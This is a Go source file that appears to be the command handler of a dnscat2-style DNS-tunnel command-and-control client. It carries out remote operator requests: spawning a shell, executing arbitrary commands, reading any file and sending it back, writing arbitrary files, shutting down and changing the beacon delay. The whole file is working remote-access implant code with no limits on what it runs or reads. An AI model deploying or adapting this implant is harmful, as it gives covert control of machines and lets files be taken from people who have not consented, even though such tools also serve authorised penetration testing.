// Package command implements the structured request/response sub-protocol a
// command session layers on top of its ordered byte stream. It is a plain
// consumer of the stream: framing and dispatch live here, delivery ordering
// is the session's job.
package command

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"os"

	"github.com/fbion/dnscat2/internal/session"
	"github.com/fbion/dnscat2/internal/util"
)

// Command ids.
const (
	CmdPing     uint16 = 0x0000
	CmdShell    uint16 = 0x0001
	CmdExec     uint16 = 0x0002
	CmdDownload uint16 = 0x0003
	CmdUpload   uint16 = 0x0004
	CmdShutdown uint16 = 0x0005
	CmdDelay    uint16 = 0x0006
	CmdError    uint16 = 0xFFFF
)

// responseFlag marks a request id as answered.
const responseFlag uint16 = 0x8000

// maxFrameSize bounds a single frame so a corrupted length prefix cannot
// make the reassembly buffer grow without limit.
const maxFrameSize = 1 << 20

// Error statuses.
const (
	statusFailed uint16 = 0x0001
)

// Processor handles command frames arriving on a session's byte stream and
// writes responses back to it. It implements session.Stream.
type Processor struct {
	sess *session.Session
	buf  bytes.Buffer // partial inbound frame

	// NewSession spawns an exec session for SHELL/EXEC requests and
	// returns its id, or an error.
	NewSession func(name, command string) (uint16, error)
	// Shutdown terminates the whole client.
	Shutdown func()
	// SetDelay changes the polling delay, in milliseconds.
	SetDelay func(ms uint32)
}

// NewProcessor creates a command processor. Attach must be called before
// any frame arrives.
func NewProcessor() *Processor {
	return &Processor{}
}

// Attach binds the processor to the session it responds on.
func (p *Processor) Attach(s *session.Session) {
	p.sess = s
}

// Closed implements session.Stream.
func (p *Processor) Closed(reason string) {
	util.LogWarning("command session closed: %s", reason)
}

// Deliver implements session.Stream: buffer the bytes and process every
// complete frame. Partial frames wait for the next delivery.
func (p *Processor) Deliver(data []byte) error {
	p.buf.Write(data)

	for {
		frame, ok, err := p.nextFrame()
		if err != nil {
			return err
		}
		if !ok {
			return nil
		}
		p.handleFrame(frame)
	}
}

// nextFrame extracts one complete frame from the buffer, if available.
// Frame layout: length(4, of everything after it) | request id(2) |
// command id(2) | body.
func (p *Processor) nextFrame() ([]byte, bool, error) {
	raw := p.buf.Bytes()
	if len(raw) < 4 {
		return nil, false, nil
	}
	length := binary.BigEndian.Uint32(raw[:4])
	if length > maxFrameSize {
		return nil, false, fmt.Errorf("command frame of %d bytes exceeds the %d limit", length, maxFrameSize)
	}
	if len(raw) < 4+int(length) {
		return nil, false, nil
	}
	p.buf.Next(4)
	return p.buf.Next(int(length)), true, nil
}

// handleFrame dispatches one request and sends the response. Malformed or
// failing requests produce an ERROR response rather than killing the
// session.
func (p *Processor) handleFrame(frame []byte) {
	if len(frame) < 4 {
		util.LogWarning("command: dropping truncated frame (%d bytes)", len(frame))
		return
	}
	requestID := binary.BigEndian.Uint16(frame[0:2])
	commandID := binary.BigEndian.Uint16(frame[2:4])
	body := frame[4:]

	if requestID&responseFlag != 0 {
		// We never issue requests, so responses are unexpected.
		util.LogDebug("command: ignoring response frame 0x%04x", requestID)
		return
	}

	util.LogDebug("command: request 0x%04x command 0x%04x (%d byte body)", requestID, commandID, len(body))

	reply, err := p.execute(commandID, body)
	if err != nil {
		util.LogWarning("command 0x%04x failed: %v", commandID, err)
		p.respondError(requestID, err)
		return
	}
	p.respond(requestID, commandID, reply)
}

// execute runs one command and returns the response body.
func (p *Processor) execute(commandID uint16, body []byte) ([]byte, error) {
	switch commandID {
	case CmdPing:
		// Echo the payload untouched.
		return body, nil

	case CmdShell:
		name, _, err := readString(body)
		if err != nil {
			return nil, err
		}
		return p.spawn(name, "sh")

	case CmdExec:
		name, rest, err := readString(body)
		if err != nil {
			return nil, err
		}
		command, _, err := readString(rest)
		if err != nil {
			return nil, err
		}
		return p.spawn(name, command)

	case CmdDownload:
		filename, _, err := readString(body)
		if err != nil {
			return nil, err
		}
		data, err := os.ReadFile(filename)
		if err != nil {
			return nil, err
		}
		return data, nil

	case CmdUpload:
		filename, rest, err := readString(body)
		if err != nil {
			return nil, err
		}
		if err := os.WriteFile(filename, rest, 0o644); err != nil {
			return nil, err
		}
		return nil, nil

	case CmdShutdown:
		if p.Shutdown != nil {
			p.Shutdown()
		}
		return nil, nil

	case CmdDelay:
		if len(body) < 4 {
			return nil, errors.New("DELAY body too short")
		}
		ms := binary.BigEndian.Uint32(body[:4])
		if p.SetDelay != nil {
			p.SetDelay(ms)
		}
		return nil, nil

	default:
		return nil, fmt.Errorf("unknown command 0x%04x", commandID)
	}
}

// spawn creates the requested exec session and returns its id.
func (p *Processor) spawn(name, command string) ([]byte, error) {
	if p.NewSession == nil {
		return nil, errors.New("this client does not allow spawning sessions")
	}
	id, err := p.NewSession(name, command)
	if err != nil {
		return nil, err
	}
	return binary.BigEndian.AppendUint16(nil, id), nil
}

// respond frames and queues a successful response.
func (p *Processor) respond(requestID, commandID uint16, body []byte) {
	p.send(requestID|responseFlag, commandID, body)
}

// respondError frames and queues an ERROR response.
func (p *Processor) respondError(requestID uint16, cause error) {
	body := binary.BigEndian.AppendUint16(nil, statusFailed)
	body = append(body, cause.Error()...)
	body = append(body, 0)
	p.send(requestID|responseFlag, CmdError, body)
}

func (p *Processor) send(requestID, commandID uint16, body []byte) {
	frame := make([]byte, 0, 8+len(body))
	frame = binary.BigEndian.AppendUint32(frame, uint32(4+len(body)))
	frame = binary.BigEndian.AppendUint16(frame, requestID)
	frame = binary.BigEndian.AppendUint16(frame, commandID)
	frame = append(frame, body...)

	if err := p.sess.Send(frame); err != nil {
		util.LogWarning("command: cannot queue response: %v", err)
	}
}

// readString reads a NUL-terminated string and returns the remainder.
func readString(data []byte) (string, []byte, error) {
	i := bytes.IndexByte(data, 0)
	if i < 0 {
		return "", nil, errors.New("string field is not NUL-terminated")
	}
	return string(data[:i]), data[i+1:], nil
}
